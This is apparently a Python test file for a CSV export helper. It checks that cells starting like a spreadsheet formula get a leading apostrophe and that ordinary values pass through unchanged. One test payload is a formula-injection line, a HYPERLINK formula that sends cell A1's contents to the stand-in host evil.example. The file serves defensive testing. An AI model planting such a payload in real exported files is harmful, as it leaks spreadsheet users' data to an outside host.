"""The CSV cells a spreadsheet would run as a formula are escaped with a leading apostrophe (issue 15)."""

import pytest

from webapp.my_data_export.csv_export import escape_cell


@pytest.mark.parametrize("payload", ['=HYPERLINK("https://evil.example/?d="&A1,"Klikk")', "+1", "-2", "@SUM(A1:A9)",
                                     "\tcmd", "\rcmd"])
def test_a_cell_starting_like_a_formula_gets_an_apostrophe(payload):
    assert escape_cell(payload) == "'" + payload


@pytest.mark.parametrize("value, text", [("Vondt i låret", "Vondt i låret"), ("a=b", "a=b"), (None, ""), (True, "1"),
                                         (2, "2"), (0.7, "0.7")])
def test_ordinary_cells_are_left_as_they_are(value, text):
    assert escape_cell(value) == text
